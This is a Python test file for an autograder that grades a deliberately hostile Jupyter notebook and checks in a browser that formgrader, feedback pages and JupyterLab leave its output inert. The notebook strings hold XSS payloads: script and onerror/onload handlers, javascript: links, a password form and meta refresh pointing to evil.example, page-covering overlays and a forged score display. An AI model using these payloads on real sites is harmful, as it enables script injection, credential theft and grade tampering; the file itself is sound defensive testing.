"""What a hostile notebook does to the pages that an instructor and a student open: nothing.

A class is graded by the real command, and looked at in a real browser: formgrader, the feedback,
and the autograded notebook in JupyterLab.
"""

from __future__ import annotations

import base64
import json
import os
import socket
import sqlite3
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from autograder.nbgrader_bridge.safe_html import REPORT_CLASS
from tests.browsing import browser, playwright
from tests.conftest import BIN, REPOSITORY, submission, write, write_small_course

pytestmark = pytest.mark.long
__all__ = ["browser"]  # a fixture

PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)
DOUBLE = f'''
import base64
from IPython.display import HTML, Image, Javascript, Latex, Markdown, SVG, display

def double(x):
    return 2 * x

P = "window.pwned = (window.pwned || 0) + 1"
display(HTML(f"<script>{{P}}</script>"))
display(HTML(f"<img src=x onerror='{{P}}'><img src='http://evil.example/html.png'>"))
display(HTML(f"<svg onload='{{P}}'><script>{{P}}</script></svg><iframe srcdoc='<script>parent.{{P}}</script>'></iframe>"))
display(HTML("<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:red' id='cover'>x</div>"))
display(HTML("<div class='navbar navbar-fixed-top modal' style='z-index:9999'>cover by class</div>"))
display(HTML("<meta http-equiv=refresh content='0;url=http://evil.example/refresh'>"))
display(HTML("<form action='http://evil.example/form'><input name=password><button>go</button></form>"))
display(HTML("<style>body {{ display: none }}</style><link rel=stylesheet href=http://evil.example/a.css>"))
display(HTML("<a id=tempting href='javascript:window.pwned=1'>click</a><base href='http://evil.example/'>"))
display(HTML("<section class='{REPORT_CLASS}' style='border-left: 4px solid #1a5fb4'><p><b>double: 60 of 60 points</b></p></section>"))
display(HTML("</div></div></div></body><h1 id=score_total>100</h1>"))
display(Javascript(P))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20' onload='{{P}}'><script>window.pwned=1</script></svg>"))
display(Markdown(f"<img src=x onerror='{{P}}'> **bold** ![t](http://evil.example/markdown.png)"))
display(Latex(r"$\\\\frac{{1}}{{2}} \\\\href{{javascript:window.pwned=1}}{{x}}$"))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x"}}, "text/plain": "w"}}, raw=True)
display({{"application/vnd.vegalite.v5+json": {{"data": {{"url": "http://evil.example/vega"}}}}}}, raw=True)
display(Image(base64.b64decode("{PNG}"), alt="a picture of ours"))
display(HTML("<div><style scoped>.dataframe tbody tr th {{ vertical-align: top; }}</style><table border='1' class='dataframe'><tr style='text-align: right;'><th>column</th></tr><tr><td>12345</td></tr></table></div>"))
print("\\x1b]0;title\\x07\\x1b[31mred\\x1b[0m")
'''  # noqa: E501
TEXT = """# A heading

<script>window.pwned = 1</script><img src=x onerror="window.pwned = 1">
<div style="position:fixed;top:0;left:0;width:100%;height:100%">cover</div>
[click](javascript:window.pwned=1) ![t](http://evil.example/cell.png) **bold text** $a<b$

| table | b |
|---|---|
| 54321 | 2 |

![own](attachment:own.png) ![evil](attachment:evil.png)
"""
MINUTE = 60_000  # milliseconds
SECONDS = 1500  # milliseconds for whatever a page may still do


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A course with one hostile submission, graded, and its feedback made."""
    root = write_small_course(tmp_path_factory.mktemp("course"))
    write(root / "nbgrader_config.py", (REPOSITORY / "nbgrader_config.py").read_text())
    notebook = submission(root, {"double": DOUBLE})
    notebook["metadata"]["kernelspec"]["name"] = "<script>window.pwned=1</script>"
    pictures = {"own.png": {"image/png": PNG},
                "evil.png": {"image/png": f'{PNG}" onerror="window.pwned=1'}}  # fmt: skip
    notebook["cells"].insert(
        1, {"cell_type": "markdown", "id": "t", "metadata": {}, "source": TEXT,
            "attachments": pictures},
    )  # fmt: skip
    folder = root / "submitted" / "mallory" / "tiny"
    write(folder / "tiny.ipynb", json.dumps(notebook))
    write(folder / "page.html", "<script>window.pwned=1</script>")
    environment = os.environ | {
        "PATH": f"{BIN}:{os.environ['PATH']}", "HOME": str(root), "PYTHONPATH": str(REPOSITORY),
        "JUPYTER_CONFIG_DIR": str(root / "c"),
    }  # fmt: skip
    feedback = ["nbgrader", "generate_feedback", "tiny"]
    whole = [*feedback, "--GenerateFeedback.exporter_class=nbconvert.exporters.HTMLExporter",
             "--CourseDirectory.feedback_directory=whole"]  # fmt: skip
    for command in (["autograder", "grade", "tiny"], feedback, whole):
        subprocess.run([BIN / command[0], *command[1:]], cwd=root, env=environment, check=True)
    return root


@pytest.fixture(scope="module")
def server(root: Path) -> Iterator[str]:
    """The address of a Jupyter server with formgrader on the course."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    options = ["--no-browser", "--allow-root", "--IdentityProvider.token=", f"--port={port}"]
    extension = "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}"
    process = subprocess.Popen(
        [BIN / "jupyter", "lab", *options, "--ServerApp.port_retries=0", extension],
        cwd=root, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        env=os.environ | {"PYTHONPATH": str(REPOSITORY), "JUPYTER_CONFIG_DIR": str(root / "c"),
                          "HOME": str(root), "PATH": f"{BIN}:{os.environ['PATH']}"},
    )  # fmt: skip
    yield f"http://127.0.0.1:{port}"
    process.terminate()
    process.wait(30)


class Visit:
    """A page, and what it asked others for."""

    def __init__(self, browser: Any, address: str) -> None:
        self.page = browser.new_page(viewport={"width": 1200, "height": 1400})
        self.asked: list[str] = []
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("dialog", lambda dialog: self.asked.append(f"evil.example {dialog.message}"))
        self.page.route("**/*", lambda route: (
            route.abort() if "127.0.0.1" not in route.request.url
            and not route.request.url.startswith(("file:", "data:", "blob:")) else route.continue_()
        ))  # fmt: skip
        for _ in range(60):  # until the server listens
            try:
                self.page.goto(address)
                break
            except playwright.Error:
                self.page.wait_for_timeout(500)

    def assert_inert(self) -> None:
        self.page.wait_for_timeout(SECONDS)
        assert self.page.evaluate("window.pwned") is None
        assert [url for url in self.asked if "evil.example" in url] == []
        covering = """[...document.querySelectorAll('.output_subarea *, .rendered_html *')]
            .filter(e => ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(e).position))
            .length"""
        assert self.page.evaluate(covering) == 0
        outside = "[...document.querySelectorAll('.output_subarea, .rendered_html')]"
        for tag in ("script", "iframe", "form", "input", "style", "link", "meta", "base"):
            found = self.page.evaluate(f"{outside}.map(e => e.querySelectorAll('{tag}').length)")
            assert sum(found) == 0, tag
        assert self.page.evaluate("document.body.getBoundingClientRect().height") > 100
        assert self.page.locator("#tempting, #cover, #score_total").count() == 0

    def assert_shown(self) -> None:
        text = self.page.inner_text("body")
        for shown in ("12345", "54321", "bold text", "A heading", "red"):
            assert shown in text
        pictures = self.page.locator("img").evaluate_all("all => all.map(i => i.naturalWidth)")
        assert sum(width > 0 for width in pictures) >= 2
        assert self.page.locator("table.dataframe").count() == 1
        assert self.page.locator(f".{REPORT_CLASS}").count() == 2  # of the two check cells


def test_formgrader(root: Path, server: str, browser: Any) -> None:
    with sqlite3.connect(root / "gradebook.db") as database:
        (identity,) = database.execute("SELECT id FROM submitted_notebook").fetchone()
    visit = Visit(browser, f"{server}/formgrader/submissions/{identity}")
    visit.page.wait_for_selector("#notebook-container", timeout=MINUTE)
    visit.assert_inert()
    visit.assert_shown()
    assert visit.page.title() == "tiny"
    served = visit.page.goto(f"{server}/formgrader/submissions/{identity}/page.html.txt")
    assert served.headers["content-type"].startswith("text/plain")


def test_feedback(root: Path, browser: Any) -> None:
    visit = Visit(browser, f"file://{root}/feedback/mallory/tiny/tiny.html")
    visit.assert_inert()
    for summary in visit.page.locator("summary").all():
        summary.click()
    visit.assert_inert()
    assert "of 100 points" in visit.page.inner_text("body")


def test_feedback_as_nbgrader_has_it(root: Path, browser: Any) -> None:
    visit = Visit(browser, f"file://{root}/whole/mallory/tiny/tiny.html")
    visit.assert_inert()
    visit.assert_shown()


def test_the_notebook_in_jupyterlab(server: str, browser: Any) -> None:
    visit = Visit(browser, f"{server}/lab/tree/autograded/mallory/tiny/tiny.ipynb")
    visit.page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=MINUTE)
    visit.page.wait_for_timeout(SECONDS)
    assert visit.page.evaluate("window.pwned") is None
    assert [url for url in visit.asked if "evil.example" in url] == []


def test_the_notebook_on_disk(root: Path) -> None:
    notebook = json.loads((root / "autograded/mallory/tiny/tiny.ipynb").read_text())
    outputs = [output for cell in notebook["cells"] for output in cell.get("outputs", ())]
    kinds = {media for output in outputs for media in output.get("data", ())}
    assert kinds <= {"text/plain", "text/html", "text/markdown", "text/latex", "image/png"}
    text = json.dumps([cell.get("outputs") or cell["source"] for cell in notebook["cells"]
                       if cell["cell_type"] == "markdown" or cell["outputs"]])  # fmt: skip
    for sign in ("<script", "javascript:", "<iframe", "<svg", "<img src=x onerror"):
        assert sign not in text, sign
    # what would cover the page stands there as text, its tag taken apart
    assert "position" not in text.replace('< div style=\\"position', "")
    drawing = ["".join(o["data"]["text/html"]) for o in outputs if "svg+xml" in str(o.get("data"))]
    assert len(drawing) == 1
    assert b"<svg" in base64.b64decode(drawing[0].split("base64,")[1].split('"')[0])
    assert not (root / "autograded/mallory/tiny/page.html").exists()
